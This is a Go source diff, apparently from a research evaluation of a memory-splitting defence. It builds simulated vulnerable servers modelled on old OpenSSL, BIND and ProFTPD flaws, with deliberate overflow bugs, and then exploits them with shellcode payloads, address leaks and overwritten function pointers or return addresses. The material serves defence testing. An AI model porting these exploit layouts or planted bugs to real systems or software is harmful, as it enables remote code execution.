@@ -1,0 +1,578 @@
+package attacks
+
+import (
+	"fmt"
+
+	"splitmem"
+)
+
+// The five real-world scenarios of §6.1.2 / Table 2. Each mini-server
+// reproduces the vulnerability class of its namesake and is attacked by a
+// working exploit over the simulated socket:
+//
+//	minissl   (Apache+OpenSSL 0.9.6d / openssl-too-open): heap overflow of
+//	          the client master key + handshake info leak -> heap callback.
+//	minidns   (Bind 8.2.2_P5 / lsd-pl TSIG): stack overflow in signature
+//	          handling + info leak for the shellcode address.
+//	miniftp   (ProFTPD 1.2.7 / proftpd-not-pro-enough): ASCII-mode newline
+//	          translation miscounts the output length -> heap overflow.
+//	minismb   (Samba 2.2.1a / eSDee trans2open): stack overflow brute-forced
+//	          against the kernel's slight stack randomization, helped by a
+//	          good first guess.
+//	miniwuftp (WU-FTPD 2.6.1 / 7350wurm): free() of attacker-corrupted heap
+//	          memory -> unsafe-unlink write-what-where -> two-stage
+//	          shellcode.
+
+// Scenario describes one Table 2 row.
+type Scenario struct {
+	Key     string // short identifier
+	Name    string // software + version, as in Table 2
+	Exploit string // exploit the attack is modeled on
+	Bug     string // vulnerability class
+	Inject  string // segment the attack code lands in
+}
+
+// Scenarios lists the Table 2 rows in paper order.
+func Scenarios() []Scenario {
+	return []Scenario{
+		{"minissl", "Apache 1.3.20 + OpenSSL 0.9.6d", "openssl-too-open", "heap overflow + info leak", "heap"},
+		{"minidns", "Bind 8.2.2_P5", "lsd-pl.net TSIG", "stack overflow + info leak", "stack"},
+		{"miniftp", "ProFTPD 1.2.7", "proftpd-not-pro-enough", "ASCII translation heap overflow", "heap"},
+		{"minismb", "Samba 2.2.1a", "eSDee trans2open", "stack overflow, brute force", "stack"},
+		{"miniwuftp", "WU-FTPD 2.6.1", "7350wurm", "heap free()/unlink corruption", "heap"},
+	}
+}
+
+// RunScenario executes the named scenario's exploit against a machine built
+// from cfg.
+func RunScenario(key string, cfg splitmem.Config) (Result, error) {
+	switch key {
+	case "minissl":
+		return exploitMinissl(cfg)
+	case "minidns":
+		return exploitMinidns(cfg)
+	case "miniftp":
+		return exploitMiniftp(cfg)
+	case "minismb":
+		return exploitMinismbHelped(cfg)
+	case "miniwuftp":
+		r, _, err := ExploitMiniwuftp(cfg, nil)
+		return r, err
+	}
+	return Result{}, fmt.Errorf("attacks: unknown scenario %q", key)
+}
+
+// ---------------------------------------------------------------------------
+// minissl — Apache 1.3.20 + OpenSSL 0.9.6d (openssl-too-open)
+
+const minisslSrc = `
+_start:
+    mov eax, banner
+    push eax
+    call print
+    add esp, 4
+ssl_loop:
+    mov eax, 64
+    push eax
+    mov eax, linebuf
+    push eax
+    mov eax, 0
+    push eax
+    call read_line
+    add esp, 12
+    cmp eax, 0
+    jl ssl_quit
+    mov ecx, linebuf
+    loadb eax, [ecx]
+    cmp eax, 'H'
+    jz ssl_hello
+    cmp eax, 'K'
+    jz ssl_key
+    cmp eax, 'F'
+    jz ssl_finish
+    cmp eax, 'Q'
+    jz ssl_quit
+    mov eax, msg_err
+    push eax
+    call print
+    add esp, 4
+    jmp ssl_loop
+
+ssl_hello:
+    ; allocate the client-master-key buffer and the completion callback
+    mov eax, 128
+    push eax
+    call malloc
+    add esp, 4
+    mov ecx, g_keybuf
+    store [ecx], eax
+    mov eax, 8
+    push eax
+    call malloc
+    add esp, 4
+    mov ecx, g_cb
+    store [ecx], eax
+    mov edx, ssl_done
+    store [eax], edx
+    ; handshake response leaks the session buffer address
+    mov ecx, g_keybuf
+    load eax, [ecx]
+    push eax
+    mov eax, hexbuf
+    push eax
+    call itoa_hex
+    add esp, 8
+    mov eax, msg_sess
+    push eax
+    call print
+    add esp, 4
+    mov eax, hexbuf
+    push eax
+    call print
+    add esp, 4
+    mov eax, msg_nl
+    push eax
+    call print
+    add esp, 4
+    jmp ssl_loop
+
+ssl_key:
+    ; "KEY <n>" - BUG: n is not checked against the 128-byte buffer
+    mov eax, linebuf
+    add eax, 4
+    push eax
+    call atoi
+    add esp, 4
+    push eax
+    mov ecx, g_keybuf
+    load eax, [ecx]
+    push eax
+    mov eax, 0
+    push eax
+    call read_exact
+    add esp, 12
+    mov eax, msg_ok
+    push eax
+    call print
+    add esp, 4
+    jmp ssl_loop
+
+ssl_finish:
+    mov ecx, g_cb
+    load ecx, [ecx]
+    load eax, [ecx]
+    call eax
+    mov eax, msg_bye
+    push eax
+    call print
+    add esp, 4
+    jmp ssl_loop
+
+ssl_done:
+    ret
+
+ssl_quit:
+    mov eax, 0
+    push eax
+    call exit
+
+.data
+banner:   .asciz "minissl 0.9.6d ready\n"
+msg_sess: .asciz "SESSION "
+msg_nl:   .asciz "\n"
+msg_ok:   .asciz "OK\n"
+msg_bye:  .asciz "BYE\n"
+msg_err:  .asciz "ERR\n"
+linebuf:  .space 64
+hexbuf:   .space 12
+g_keybuf: .word 0
+g_cb:     .word 0
+`
+
+func exploitMinissl(cfg splitmem.Config) (Result, error) {
+	t, err := NewTarget(cfg, minisslSrc, "minissl")
+	if err != nil {
+		return Result{}, err
+	}
+	if _, ok := t.WaitOutput("ready"); !ok {
+		return Result{Notes: "no banner"}, nil
+	}
+	t.SendLine("HELLO")
+	out, ok := t.WaitOutput("SESSION ")
+	if !ok {
+		return Result{Notes: "no session leak"}, nil
+	}
+	keybuf, err := parseLeak(out, "SESSION ")
+	if err != nil {
+		return Result{}, err
+	}
+	// chunk(128) = 136 bytes, so the callback's function pointer sits at
+	// keybuf+136; overflow 140 bytes: shellcode, padding, fptr.
+	payload := pad(ExecveShellcode(keybuf), 136, 0x90)
+	payload = append(payload, le32(keybuf)...)
+	t.SendLine("KEY 140")
+	t.Send(payload)
+	if _, ok := t.WaitOutput("OK"); !ok {
+		return Result{Notes: "overflow not accepted"}, nil
+	}
+	t.SendLine("FINISH")
+	t.Run()
+	return t.Result(), nil
+}
+
+// ---------------------------------------------------------------------------
+// minidns — Bind 8.2.2_P5 (lsd-pl TSIG)
+
+const minidnsSrc = `
+_start:
+    mov eax, banner
+    push eax
+    call print
+    add esp, 4
+    call dns_handle
+    mov eax, 0
+    push eax
+    call exit
+
+dns_handle:
+    push ebp
+    mov ebp, esp
+    sub esp, 96            ; signature buffer (declared 64) at ebp-96
+dns_loop:
+    mov eax, 64
+    push eax
+    mov eax, linebuf
+    push eax
+    mov eax, 0
+    push eax
+    call read_line
+    add esp, 12
+    cmp eax, 0
+    jl dns_done
+    mov ecx, linebuf
+    loadb eax, [ecx]
+    cmp eax, 'V'
+    jz dns_version
+    cmp eax, 'S'
+    jz dns_sig
+    cmp eax, 'Q'
+    jz dns_done
+    jmp dns_loop
+
+dns_version:
+    ; version response leaks a stack address (the handler frame pointer)
+    push ebp
+    mov eax, hexbuf
+    push eax
+    call itoa_hex
+    add esp, 8
+    mov eax, msg_ver
+    push eax
+    call print
+    add esp, 4
+    mov eax, hexbuf
+    push eax
+    call print
+    add esp, 4
+    mov eax, msg_nl
+    push eax
+    call print
+    add esp, 4
+    jmp dns_loop
+
+dns_sig:
+    ; "SIG <n>" - BUG: n unchecked against the 64-byte signature buffer
+    mov eax, linebuf
+    add eax, 4
+    push eax
+    call atoi
+    add esp, 4
+    push eax
+    lea eax, [ebp-96]
+    push eax
+    mov eax, 0
+    push eax
+    call read_exact
+    add esp, 12
+    mov eax, msg_ok
+    push eax
+    call print
+    add esp, 4
+    jmp dns_loop
+
+dns_done:
+    mov esp, ebp
+    pop ebp
+    ret
+
+.data
+banner:  .asciz "minidns 8.2.2-P5 ready\n"
+msg_ver: .asciz "VERSION BIND stack "
+msg_nl:  .asciz "\n"
+msg_ok:  .asciz "SIGOK\n"
+linebuf: .space 64
+hexbuf:  .space 12
+`
+
+func exploitMinidns(cfg splitmem.Config) (Result, error) {
+	t, err := NewTarget(cfg, minidnsSrc, "minidns")
+	if err != nil {
+		return Result{}, err
+	}
+	if _, ok := t.WaitOutput("ready"); !ok {
+		return Result{Notes: "no banner"}, nil
+	}
+	t.SendLine("VERSION")
+	out, ok := t.WaitOutput("stack ")
+	if !ok {
+		return Result{Notes: "no stack leak"}, nil
+	}
+	ebp, err := parseLeak(out, "stack ")
+	if err != nil {
+		return Result{}, err
+	}
+	sigbuf := ebp - 96 // shellcode lands in the signature buffer itself
+	// Overflow to the saved return address at ebp+4 (offset 100).
+	payload := pad(ExecveShellcode(sigbuf), 100, 0x90)
+	payload = append(payload, le32(sigbuf)...)
+	t.SendLine(fmt.Sprintf("SIG %d", len(payload)))
+	t.Send(payload)
+	if _, ok := t.WaitOutput("SIGOK"); !ok {
+		return Result{Notes: "overflow not accepted"}, nil
+	}
+	t.SendLine("QUIT") // dns_handle returns through the smashed frame
+	t.Run()
+	return t.Result(), nil
+}
+
+// ---------------------------------------------------------------------------
+// miniftp — ProFTPD 1.2.7 (ASCII translation)
+
+const miniftpSrc = `
+_start:
+    mov eax, banner
+    push eax
+    call print
+    add esp, 4
+ftp_loop:
+    mov eax, 64
+    push eax
+    mov eax, linebuf
+    push eax
+    mov eax, 0
+    push eax
+    call read_line
+    add esp, 12
+    cmp eax, 0
+    jl ftp_quit
+    mov ecx, linebuf
+    loadb eax, [ecx]
+    cmp eax, 'S'
+    jz ftp_stor
+    cmp eax, 'T'
+    jz ftp_type
+    cmp eax, 'R'
+    jz ftp_retr
+    cmp eax, 'Q'
+    jz ftp_quit
+    jmp ftp_loop
+
+ftp_stor:
+    ; "STOR <n>": store an uploaded file of n bytes (n capped at 512)
+    mov eax, linebuf
+    add eax, 5
+    push eax
+    call atoi
+    add esp, 4
+    mov ecx, g_filelen
+    store [ecx], eax
+    mov eax, 512
+    push eax
+    call malloc
+    add esp, 4
+    mov ecx, g_filebuf
+    store [ecx], eax
+    mov ecx, g_filelen
+    load eax, [ecx]
+    push eax
+    mov ecx, g_filebuf
+    load eax, [ecx]
+    push eax
+    mov eax, 0
+    push eax
+    call read_exact
+    add esp, 12
+    mov eax, msg_ok
+    push eax
+    call print
+    add esp, 4
+    jmp ftp_loop
+
+ftp_type:
+    mov eax, 1
+    mov ecx, g_ascii
+    store [ecx], eax
+    mov eax, msg_200
+    push eax
+    call print
+    add esp, 4
+    jmp ftp_loop
+
+ftp_retr:
+    ; BUG: the output buffer is sized for file_len bytes, but ASCII mode
+    ; expands every \n to \r\n while translating - writing up to 2x.
+    mov ecx, g_filelen
+    load eax, [ecx]
+    push eax
+    call malloc
+    add esp, 4
+    mov ecx, g_out
+    store [ecx], eax
+    ; transfer-complete callback, allocated right after the output buffer
+    mov eax, 256
+    push eax
+    call malloc
+    add esp, 4
+    mov ecx, g_cb
+    store [ecx], eax
+    mov edx, ftp_done
+    store [eax], edx
+    ; "150 <hex out>": the data-connection response leaks the buffer
+    mov ecx, g_out
+    load eax, [ecx]
+    push eax
+    mov eax, hexbuf
+    push eax
+    call itoa_hex
+    add esp, 8
+    mov eax, msg_150
+    push eax
+    call print
+    add esp, 4
+    mov eax, hexbuf
+    push eax
+    call print
+    add esp, 4
+    mov eax, msg_nl
+    push eax
+    call print
+    add esp, 4
+    ; translate: for i in 0..file_len: out[j++]=c, with '\n' -> '\r','\n'
+    mov ecx, g_filebuf
+    load esi, [ecx]        ; src
+    mov ecx, g_out
+    load edi, [ecx]        ; dst
+    mov ecx, g_filelen
+    load ecx, [ecx]        ; remaining
+ftp_xlate:
+    cmp ecx, 0
+    jle ftp_xdone
+    loadb eax, [esi]
+    cmp eax, '\n'
+    jnz ftp_xplain
+    mov edx, '\r'
+    storeb [edi], edx
+    inc edi
+ftp_xplain:
+    storeb [edi], eax
+    inc edi
+    inc esi
+    dec ecx
+    jmp ftp_xlate
+ftp_xdone:
+    mov ecx, g_cb
+    load ecx, [ecx]
+    load eax, [ecx]        ; cb->fn
+    call eax
+    mov eax, msg_226
+    push eax
+    call print
+    add esp, 4
+    jmp ftp_loop
+
+ftp_done:
+    ret
+
+ftp_quit:
+    mov eax, 0
+    push eax
+    call exit
+
+.data
+banner:    .asciz "miniftp 1.2.7 ready\n"
+msg_ok:    .asciz "OK\n"
+msg_200:   .asciz "200 TYPE A\n"
+msg_150:   .asciz "150 "
+msg_226:   .asciz "226\n"
+msg_nl:    .asciz "\n"
+linebuf:   .space 64
+hexbuf:    .space 12
+g_filebuf: .word 0
+g_filelen: .word 0
+g_ascii:   .word 0
+g_out:     .word 0
+g_cb:      .word 0
+`
+
+func exploitMiniftp(cfg splitmem.Config) (Result, error) {
+	t, err := NewTarget(cfg, miniftpSrc, "miniftp")
+	if err != nil {
+		return Result{}, err
+	}
+	if _, ok := t.WaitOutput("ready"); !ok {
+		return Result{Notes: "no banner"}, nil
+	}
+	// Predict the output-buffer address from the file upload: we need the
+	// shellcode positioned at *out*, which the server leaks in its "150"
+	// response before translating. Upload first with a placeholder, learn
+	// the address from a dry-run RETR... a single connection suffices
+	// because the exploit can upload, RETR once to leak the address (the
+	// placeholder file has no newlines so nothing overflows), then upload
+	// the weaponized file and RETR again.
+	n := 256
+	cs := (n + 11) &^ 7 // chunk size of the output buffer
+	placeholder := make([]byte, n)
+	for i := range placeholder {
+		placeholder[i] = 'A'
+	}
+	t.SendLine(fmt.Sprintf("STOR %d", n))
+	t.Send(placeholder)
+	if _, ok := t.WaitOutput("OK"); !ok {
+		return Result{Notes: "upload rejected"}, nil
+	}
+	t.SendLine("TYPE A")
+	t.WaitOutput("200")
+	t.SendLine("RETR")
+	out, ok := t.WaitOutput("150 ")
+	if !ok {
+		return Result{Notes: "no data-connection leak"}, nil
+	}
+	out1, err := parseLeak(out, "150 ")
+	if err != nil {
+		return Result{}, err
+	}
+	t.WaitOutput("226")
+	// The next RETR's output buffer lands after this RETR's callback chunk
+	// and the second upload's 512-byte file chunk:
+	//   out2 = out1 + chunk(256) + chunk(256) + chunk(512).
+	// The weaponized file: shellcode (no newlines), filler, 12 newlines,
+	// then the fptr value, arranged so translation writes the fptr exactly
+	// at offset chunk(n) — the second callback's function pointer.
+	out2 := uint32(int(out1) + cs + (256+11)&^7 + (512+11)&^7)
+	sc := ExecveShellcode(out2)
+	m := 12                      // newlines: each adds one output byte
+	clean := cs - 2*m            // output bytes before the fptr
+	body := pad(sc, clean, 0x90) // shellcode + 0x90 filler
+	for i := 0; i < m; i++ {
+		body = append(body, '\n')
+	}
+	body = append(body, le32(out2)...)
+	t.SendLine(fmt.Sprintf("STOR %d", len(body)))
+	t.Send(body)
+	if _, ok := t.WaitOutput("OK"); !ok {
+		return Result{Notes: "weaponized upload rejected"}, nil
+	}
+	t.SendLine("RETR")
+	t.Run()
+	return t.Result(), nil
+}
